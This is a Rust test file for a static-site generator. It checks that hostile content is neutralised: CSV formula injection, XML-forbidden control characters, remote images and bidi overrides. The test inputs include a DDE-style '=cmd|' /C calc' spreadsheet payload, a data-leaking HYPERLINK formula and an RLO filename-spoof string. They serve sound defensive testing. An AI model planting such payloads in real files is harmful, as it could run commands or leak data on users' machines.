//! Content written to break the output: spreadsheet formulas in text that goes into
//! `claims.csv`, characters XML and HTML forbid, remote images, bidi overrides and long
//! unbroken words. Each test builds the valid fixture with such content laid over it and
//! parses what comes out.

mod common;

use std::path::{Path, PathBuf};

use common::{build_into, fixture, options, page, sel, temp_dir};

const BASE: &str = "https://example.org/briefing/";

/// A copy of the valid fixture site in a fresh folder, with `files` (path, text) written
/// over it.
fn site_with(files: &[(&str, &str)]) -> (tempfile::TempDir, PathBuf) {
    let tmp = temp_dir("hostile");
    let root = tmp.path().join("site");
    let valid = fixture("valid");
    for entry in walkdir::WalkDir::new(&valid) {
        let entry = entry.unwrap();
        let target = root.join(entry.path().strip_prefix(&valid).unwrap());
        if entry.file_type().is_dir() {
            std::fs::create_dir_all(&target).unwrap();
        } else {
            std::fs::copy(entry.path(), &target).unwrap();
        }
    }
    for (path, text) in files {
        let path = root.join(path);
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(path, text).unwrap();
    }
    (tmp, root)
}

/// Builds `root` with `base_url` set (so the feed and sitemap are written) into a folder
/// beside it, panicking with the diagnostics on failure.
fn build(root: &Path) -> PathBuf {
    let out = root.with_file_name("public");
    let report = sitrep::pipeline::build(&options(root, &out, Some(BASE)));
    if let Err(diagnostics) = report {
        panic!("build failed: {diagnostics:?}");
    }
    out
}

/// A source without an archive, so quotes from it need not occur anywhere.
const UNARCHIVED_SOURCE: &str = "title: Unarchived report\noutlet: Example Post\npublished: Sunday\nlanguage: en\nkind: newspaper\n";

/// A figure whose text fields start with (or contain, after a separator or quote) the
/// characters that make spreadsheets run a cell as a formula.
const FORMULA_FIGURE: &str = r#"label: "=HYPERLINK(\"http://example.org/?leak=\"&A1)"
unit: "+people"
definition: "@SUM(1+1)"
claims:
  - value: 1.5
    qualifier: about
    source: unarchived
    stated_by: {party: police, person: "-Officer", role: "\t=cmd|' /C calc'!A0"}
    rank: disputed
    rank_reason: "\r=1+1"
    quote: "Nearly 2;=1+2 or \"-3\", said one,@x"
"#;

/// Whether a spreadsheet could read `cell` (or a cell split off inside it at a separator,
/// quote mark or line break) as a formula: a formula character that starts the text
/// (after spaces) or follows such a character, with no `'` before it.
fn could_run_as_formula(cell: &str) -> bool {
    let formula = |c: char| matches!(c, '=' | '+' | '-' | '@' | '\t' | '\r');
    let splits = |c: char| matches!(c, ',' | ';' | '\t' | '"' | '\'' | '\n' | '\r');
    if cell.trim_start_matches(' ').starts_with(formula) {
        return true;
    }
    let chars: Vec<char> = cell.chars().collect();
    chars
        .windows(2)
        .any(|w| splits(w[0]) && w[0] != '\'' && formula(w[1]))
}

#[test]
fn claims_csv_cells_do_not_run_as_formulas_and_numbers_stay_numbers() {
    let (_tmp, root) = site_with(&[
        ("content/sources/unarchived.yaml", UNARCHIVED_SOURCE),
        ("content/figures/formulas.yaml", FORMULA_FIGURE),
    ]);
    let out = build(&root);
    let mut reader = csv::Reader::from_path(out.join("data/claims.csv")).unwrap();
    let headers = reader.headers().unwrap().clone();
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    let cell = |row: &csv::StringRecord, name: &str| {
        let at = headers.iter().position(|h| h == name).unwrap();
        row[at].to_string()
    };
    let numeric = ["value", "low", "high", "bound_low", "bound_high", "point"];
    for row in &rows {
        for (name, value) in headers.iter().zip(row) {
            if numeric.contains(&name) {
                assert!(
                    value.is_empty() || value.parse::<f64>().is_ok(),
                    "{name} = {value:?} is not a number"
                );
            } else {
                assert!(!could_run_as_formula(value), "{name} = {value:?}");
            }
        }
    }
    let row = rows
        .iter()
        .find(|row| cell(row, "figure_id") == "formulas")
        .expect("the formulas figure's claim");
    // Each text keeps its characters, with a `'` at the start (it starts with a formula
    // character) and before each formula character after a separator or quote.
    let expected = [
        (
            "figure_label",
            r#"'=HYPERLINK("http://example.org/?leak="&A1)"#,
        ),
        ("unit", "'+people"),
        ("person", "'-Officer"),
        ("role", "'\t'=cmd|' /C calc'!A0"),
        ("rank_reason", "'\r'=1+1"),
        ("quote", "Nearly 2;'=1+2 or \"'-3\", said one,'@x"),
    ];
    for (name, value) in expected {
        assert_eq!(cell(row, name), value, "{name}");
    }
    // A number column keeps its number: the claim's value 1.5, which `about` turns into
    // the point 1.5 as well.
    assert_eq!(cell(row, "value"), "1.5");
    assert_eq!(cell(row, "point"), "1.5");
}

/// Characters XML 1.0 forbids (and HTML flags), put into the content below.
const FORBIDDEN: [char; 6] = ['\u{1}', '\u{b}', '\u{c}', '\u{7f}', '\u{90}', '\u{fffe}'];

/// An incident, a figure and a source with forbidden characters in their titles, label and
/// summary (YAML escapes in the front matter, raw characters in the Markdown), each
/// `updated` so that it is in the feed.
fn control_character_site() -> (tempfile::TempDir, PathBuf) {
    let incident = "---\ntitle: \"Control\\x01 \\vcharacters\\uFFFE in a title\"\ndate: Saturday\nplace: {country: \"Examp\\x01lia\"}\ncategory: test\noutcome: unclear\nsources: [controls]\nupdated: 2026-11-21\n---\nA summary\u{1} with\u{7f} control\u{90} characters [@controls] and a [link\u{c}](https://example.org/ab \"t\u{b}itle\").\n";
    let figure = "label: \"Label\\x01 with\\v controls\"\nunit: people\ndefinition: \"Defined\\x0C here.\"\nupdated: 2026-11-21\nclaims:\n  - value: 3\n    qualifier: exact\n    source: controls\n    stated_by: {party: police, person: \"Name\\x01\"}\n    quote: \"Quote\\x01 here\"\n";
    let source = "title: \"Source\\x01 title\\v\"\noutlet: Example Post\npublished: Sunday\nlanguage: en\nkind: newspaper\n";
    site_with(&[
        ("content/incidents/controls.md", incident),
        ("content/figures/controls.yaml", figure),
        ("content/sources/controls.yaml", source),
    ])
}

/// Every `<svg>…</svg>` element in `html`.
fn svg_elements(html: &str) -> Vec<&str> {
    let mut found = Vec::new();
    let mut rest = html;
    while let Some(start) = rest.find("<svg") {
        let end = rest[start..].find("</svg>").expect("a closed <svg>") + start + 6;
        found.push(&rest[start..end]);
        rest = &rest[end..];
    }
    found
}

#[test]
fn control_characters_leave_every_xml_file_well_formed_and_html_clean() {
    let (_tmp, root) = control_character_site();
    let out = build(&root);
    for xml in ["feed.xml", "sitemap.xml", "static/favicon.svg"] {
        let text = std::fs::read_to_string(out.join(xml)).unwrap();
        if let Err(err) = roxmltree::Document::parse(&text) {
            panic!("{xml} is not well-formed XML: {err}");
        }
    }
    let feed = std::fs::read_to_string(out.join("feed.xml")).unwrap();
    let feed = roxmltree::Document::parse(&feed).unwrap();
    let titles: Vec<&str> = feed
        .descendants()
        .filter(|n| n.has_tag_name("title"))
        .filter_map(|n| n.text())
        .collect();
    // The titles keep everything but the forbidden characters.
    assert!(
        titles.contains(&"Control characters in a title"),
        "{titles:?}"
    );
    assert!(titles.contains(&"Label with controls"), "{titles:?}");

    let mut charts = 0;
    for file in common::html_files(&out) {
        let html = std::fs::read_to_string(out.join(&file)).unwrap();
        if let Some(c) = html.chars().find(|c| FORBIDDEN.contains(c)) {
            panic!("{file} carries U+{:04X}", c as u32);
        }
        for svg in svg_elements(&html) {
            charts += 1;
            if let Err(err) = roxmltree::Document::parse(svg) {
                panic!("an SVG chart in {file} is not well-formed XML: {err}\n{svg}");
            }
        }
    }
    assert!(charts > 2, "only {charts} charts");
    let incident = common::page(&out, "incidents/controls.html");
    let h1 = common::texts(&incident, "h1");
    assert_eq!(h1, ["Control characters in a title"]);
    let summary = std::fs::read_to_string(out.join("incidents/controls.html")).unwrap();
    assert!(
        summary.contains("A summary with control characters"),
        "{summary}"
    );
    assert!(
        summary.contains("href=\"https://example.org/ab\" title=\"title\""),
        "{summary}"
    );
}

/// An incident whose summary has a remote image on line 11 (the front matter takes lines
/// 1–9, the first summary line is 10), one inside a link, a scheme-relative one, a local
/// image and raw HTML `<img>` (which is shown as text).
const REMOTE_IMAGES: &str = "---\ntitle: Images\ndate: Saturday\nplace: {country: Examplia}\ncategory: test\noutcome: unclear\nsources: [wire]\n---\n\nA summary [@wire].\n  Map: ![the map](https://maps.example.org/m.png \"Map\").\n[![badge](http://badge.example.org/b.svg)](https://example.org/) ![](//cdn.example.org/x.png)\n![local](../static/favicon.svg) <img src=https://raw.example.org/i.png>\n";

#[test]
fn remote_images_are_links_and_located_warnings_unless_allowed() {
    let (_tmp, root) = site_with(&[("content/incidents/images.md", REMOTE_IMAGES)]);
    let out = root.with_file_name("public");
    let report = build_into(&root, &out).expect("warnings do not stop the build");
    let warnings: Vec<&sitrep::diagnostics::Diagnostic> = report
        .diagnostics
        .iter()
        .filter(|d| d.message.contains("would load from another site"))
        .collect();
    let located: Vec<(String, usize, usize)> = warnings
        .iter()
        .map(|d| (d.file.display().to_string(), d.line, d.column))
        .collect();
    // Line 11 is `  Map: ![the map](…)`: the image starts at column 8. Line 12 starts
    // with `[![badge]…`, the image at column 2; the link takes columns 1–64 (`[`, the
    // 8 characters of `![badge]`, 32 of `(http://badge.example.org/b.svg)`, `]`, 22 of
    // `(https://example.org/)`), then a space, so `![](//cdn…)` starts at column 66.
    let file = "content/incidents/images.md".to_string();
    assert_eq!(
        located,
        [(file.clone(), 11, 8), (file.clone(), 12, 2), (file, 12, 66)],
        "{warnings:?}"
    );
    assert!(
        warnings[0]
            .message
            .contains("https://maps.example.org/m.png")
    );
    let hint = warnings[0].hint.as_deref().unwrap_or_default();
    assert!(hint.contains("allow_remote_images = true"), "{hint}");

    let html = page(&out, "incidents/images.html");
    let sources: Vec<&str> = html
        .select(&sel("img"))
        .filter_map(|img| img.value().attr("src"))
        .collect();
    assert_eq!(
        sources,
        ["../static/favicon.svg"],
        "only the local image loads"
    );
    let links: Vec<(String, String)> = html
        .select(&sel("a.remote-image"))
        .map(|a| {
            let href = a.value().attr("href").unwrap_or_default().to_string();
            (href, a.text().collect())
        })
        .collect();
    assert_eq!(
        links,
        [
            ("https://maps.example.org/m.png".into(), "the map".into()),
            (
                "//cdn.example.org/x.png".into(),
                "//cdn.example.org/x.png".into()
            ),
        ]
    );
    // The image inside a link is its alt text within that link (links cannot nest).
    assert_eq!(
        common::texts(&html, "a[href='https://example.org/']"),
        ["badge"]
    );
    let text = std::fs::read_to_string(out.join("incidents/images.html")).unwrap();
    assert!(text.contains("&lt;img src=https://raw.example.org/i.png&gt;"));

    // With `allow_remote_images = true` they are images, and there is no warning.
    let config = std::fs::read_to_string(root.join("site.toml")).unwrap();
    let config = format!("{config}allow_remote_images = true\n");
    std::fs::write(root.join("site.toml"), config).unwrap();
    let report = build_into(&root, &out).expect("builds");
    assert!(
        !report
            .diagnostics
            .iter()
            .any(|d| d.message.contains("another site")),
        "{:?}",
        report.diagnostics
    );
    let html = page(&out, "incidents/images.html");
    let sources: Vec<&str> = html
        .select(&sel("img"))
        .filter_map(|img| img.value().attr("src"))
        .collect();
    assert_eq!(
        sources,
        [
            "https://maps.example.org/m.png",
            "http://badge.example.org/b.svg",
            "//cdn.example.org/x.png",
            "../static/favicon.svg"
        ]
    );
}

/// Whether `text` leaves a bidi embedding, override or isolate open at its end (so that it
/// would reorder what follows it), by the rules of the Unicode bidi algorithm: PDF closes
/// the last embedding or override unless an isolate was opened after it, PDI closes the
/// last isolate and everything opened inside it.
fn leaves_bidi_open(text: &str) -> bool {
    let mut open: Vec<bool> = Vec::new(); // true: an isolate
    for c in text.chars() {
        match c {
            '\u{202A}' | '\u{202B}' | '\u{202D}' | '\u{202E}' => open.push(false),
            '\u{2066}' | '\u{2067}' | '\u{2068}' => open.push(true),
            '\u{202C}' if open.last() == Some(&false) => {
                open.pop();
            }
            '\u{2069}' if open.contains(&true) => while open.pop() == Some(false) {},
            _ => {}
        }
    }
    !open.is_empty()
}

#[test]
fn bidi_overrides_in_titles_labels_and_names_stay_inside_their_text() {
    let incident = "---\ntitle: \"Report \\u202Egnp.exe\"\ndate: Saturday\nplace: {country: Examplia}\ncategory: test\noutcome: unclear\nsources: [bidi]\nupdated: 2026-11-21\n---\nA summary [@bidi].\n";
    let figure = "label: \"Killed \\u202Bin\\u2067 the\\u2069 attack\\u202C\\u202C\"\nunit: people\ndefinition: Killed.\nupdated: 2026-11-21\nscope: {incidents: [bidi]}\nclaims:\n  - value: 3\n    qualifier: exact\n    source: bidi\n    stated_by: {party: police, person: \"\\u2066Officer \\u202Dname\"}\n    quote: \"\\u202Ethree dead\"\n";
    let source = "title: \"Source \\u2069\\u202Etitle\"\noutlet: Example Post\npublished: Sunday\nlanguage: en\nkind: newspaper\n";
    let (_tmp, root) = site_with(&[
        ("content/incidents/bidi.md", incident),
        ("content/figures/bidi.yaml", figure),
        ("content/sources/bidi.yaml", source),
    ]);
    let out = build(&root);
    let mut checked = 0;
    for file in common::html_files(&out) {
        let html = page(&out, &file);
        for node in html.root_element().descendants() {
            let Some(text) = node.value().as_text() else {
                continue;
            };
            checked += usize::from(text.contains('\u{202E}'));
            assert!(!leaves_bidi_open(text), "{file}: {text:?}");
        }
        for element in html
            .root_element()
            .descendants()
            .filter_map(|n| n.value().as_element())
        {
            for (name, value) in element.attrs() {
                assert!(!leaves_bidi_open(value), "{file}: {name}={value:?}");
            }
        }
    }
    assert!(checked > 5, "only {checked} texts with U+202E");
    // The title is wrapped in FSI … PDI with its override closed (PDF), wherever it is.
    let isolated = "\u{2068}Report \u{202E}gnp.exe\u{202C}\u{2069}";
    let incident = page(&out, "incidents/bidi.html");
    assert_eq!(common::texts(&incident, "h1"), [isolated]);
    let list = page(&out, "incidents.html");
    let items = common::texts(&list, "li > a[href='incidents/bidi.html']");
    assert_eq!(items, [isolated]);
    // The label's stray PDFs are left out; its balanced parts are kept.
    let figure = page(&out, "figures/bidi.html");
    let label = "\u{2068}Killed \u{202B}in\u{2067} the\u{2069} attack\u{202C}\u{2069}";
    assert_eq!(common::texts(&figure, "h1"), [label]);

    let feed = std::fs::read_to_string(out.join("feed.xml")).unwrap();
    let feed = roxmltree::Document::parse(&feed).unwrap();
    for node in feed.descendants().filter(|n| n.is_text()) {
        assert!(
            !leaves_bidi_open(node.text().unwrap()),
            "feed.xml: {node:?}"
        );
    }
}
